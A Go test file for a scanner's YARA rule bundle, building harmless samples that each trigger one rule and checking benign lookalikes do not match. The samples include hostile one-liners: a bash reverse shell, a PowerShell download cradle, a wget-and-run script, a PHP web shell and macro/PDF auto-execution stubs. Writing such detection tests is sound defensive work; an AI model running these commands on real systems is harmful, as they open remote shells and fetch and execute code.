package yararules

import (
	"bytes"
	"encoding/binary"
	"encoding/json"
	"os"
	"strings"
	"testing"
	"time"
	"unicode/utf16"

	yara "github.com/Velocidex/go-yara"
	"github.com/stretchr/testify/require"

	"github.com/virusmap/virusmap/supernode/engine/worker"
)

// samples are made here to match one rule each; none of them does anything.
func samples(t *testing.T) map[string][]byte {
	t.Helper()
	test := `X5O!P%@AP[4\PZX54(P^)7CC)7}$` + `EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*`
	le := binary.LittleEndian
	elf := make([]byte, 120)
	copy(elf, "\x7fELF\x02\x01\x01")
	le.PutUint16(elf[16:], 2)
	le.PutUint16(elf[18:], 62)
	le.PutUint32(elf[20:], 1)
	le.PutUint64(elf[24:], 0x400078)
	le.PutUint64(elf[32:], 64)
	le.PutUint16(elf[52:], 64)
	le.PutUint16(elf[54:], 56)
	le.PutUint16(elf[56:], 1)
	le.PutUint32(elf[64:], 1)
	le.PutUint32(elf[68:], 7)
	le.PutUint64(elf[80:], 0x400000)
	le.PutUint64(elf[96:], 120)
	le.PutUint64(elf[104:], 120)
	library := append([]byte("\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x03\x00"), make([]byte, 46)...)

	return map[string][]byte{
		"EICAR_Test_File":                    []byte(test),
		"EICAR_Embedded":                     []byte("quoted " + test),
		"ClamAV_Test_File":                   testfile(t, "clam.exe"),
		"UPX_PE":                             testfile(t, "clam-upx.exe"),
		"UPX_Altered_PE":                     bytes.ReplaceAll(testfile(t, "clam-upx.exe"), []byte("UPX!"), []byte("----")),
		"UPX_ELF":                            append(append(bytes.Clone(library), "UPX!"...), "$Info: This file is packed with the UPX executable packer http://upx.sf.net $"...),
		"ELF_Without_Sections_Writable_Code": elf,
		"PHP_WebShell":                       []byte("<?php @system( $_GET['c']); ?>"),
		"PHP_Decoded_Eval":                   []byte("<?php eval(base64_decode('aGk=')); ?>"),
		"PowerShell_Download_Cradle":         []byte("powershell -nop -c IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1')"),
		"PowerShell_Encoded_Command":         []byte("powershell -w hidden -enc " + strings.Repeat("SQBF", 30)),
		"Reverse_Shell_One_Liner":            []byte("bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"),
		"Shell_Download_And_Run":             []byte("#!/bin/sh\ncd /tmp; wget http://192.0.2.1/a; chmod 777 a; ./a\n"),
		"PDF_Auto_JavaScript":                []byte("%PDF-1.7\n<</OpenAction<</S/JavaScript/JS(x)>>>>"),
		"PDF_Launch":                         []byte("%PDF-1.7\n<</S/Launch/F(cmd.exe)>>"),
		"VBA_Auto_Shell":                     []byte("Sub AutoOpen()\nShell \"cmd /c calc\"\nEnd Sub"),
		"OLE_Macro_Auto_Start":               append([]byte("\xd0\xcf\x11\xe0"+wide("_VBA_PROJECT")), "AutoOpen WScript.Shell"...),
		"Coin_Miner_Stratum":                 append(bytes.Clone(library), "stratum+tcp://pool.example mining.subscribe --donate-level"...),
		"ELF_Preload_Rootkit":                append(bytes.Clone(library), "/etc/ld.so.preload dlsym readdir /proc/net/tcp /bin/sh"...),
	}
}

// withoutSample are rules whose sample would need a compiler for Windows.
var withoutSample = map[string]bool{"PE_Process_Injection": true}

func TestShippedRules(t *testing.T) {
	bundle, err := ReadBundle("../../../engines/yara")
	require.NoError(t, err)
	rules, err := compile(bundle)
	require.NoError(t, err)
	defer rules.Destroy()
	samples := samples(t)
	for _, rule := range rules.GetRules() {
		name := rule.Identifier()
		require.Contains(t, rank, text(rule.Metas(), "category"), name)
		require.NotEmpty(t, text(rule.Metas(), "label"), name)
		require.NotEmpty(t, text(rule.Metas(), "description"), name)
		_, err := time.Parse(time.DateOnly, text(rule.Metas(), "date"))
		require.NoError(t, err, name)
		if withoutSample[name] {
			continue
		}
		require.Contains(t, samples, name)
		require.Contains(t, match(t, rules, samples[name]), name)
	}
	for name, text := range map[string]string{
		"PHP":        "<?php echo $_GET['a']; system('ls');",
		"PowerShell": "Invoke-WebRequest https://example.com -OutFile a.zip",
		"PDF":        "%PDF-1.7\n<</OpenAction[3 0 R /Fit]>>",
		"VBA":        "Sub AutoOpen()\nMsgBox \"hello\"\nEnd Sub",
		"shell":      "#!/bin/sh\ncurl -O https://example.com/a.tar.gz\nchmod +x configure\n",
		"nothing":    "",
	} {
		require.Empty(t, match(t, rules, []byte(text)), name)
	}
}

func match(t *testing.T, rules *yara.Rules, content []byte) []string {
	t.Helper()
	var matches yara.MatchRules
	require.NoError(t, rules.ScanMem(content, yara.ScanFlagsFastMode|noTryCatch, time.Minute, &matches))
	var names []string
	for _, match := range matches {
		names = append(names, match.Rule)
	}
	return names
}

func testfile(t *testing.T, name string) []byte {
	t.Helper()
	content, err := os.ReadFile("/usr/share/clamav-testfiles/" + name)
	require.NoError(t, err, "run scripts/setup.sh to install what the tests need")
	return content
}

func wide(text string) string {
	var b []byte
	for _, unit := range utf16.Encode([]rune(text)) {
		b = binary.LittleEndian.AppendUint16(b, unit)
	}
	return string(b)
}

func TestScanWithoutRules(t *testing.T) {
	args, err := json.Marshal(Args{Set: "absent"})
	require.NoError(t, err)
	_, err = HandleScan(&worker.Task{Args: args})
	require.ErrorContains(t, err, `"absent" is not loaded`)
}

func FuzzBundle(f *testing.F) {
	f.Add([]byte(`{"a.yar":"rule A { condition: true }"}`))
	f.Add([]byte(`{}`))
	f.Add([]byte(`[1]`))
	f.Fuzz(func(t *testing.T, data []byte) {
		bundle, err := decodeBundle(data)
		if err == nil {
			require.NotEmpty(t, bundle.names())
		}
	})
}
